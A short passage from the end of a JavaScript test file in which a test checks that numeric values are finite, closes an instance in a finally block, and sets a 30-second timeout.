            if (typeof value === 'number') expect(Number.isFinite(value)).toBe(true)
          }
        }
      } finally {
        await instance.close()
      }
    },
    30_000,
  )
})
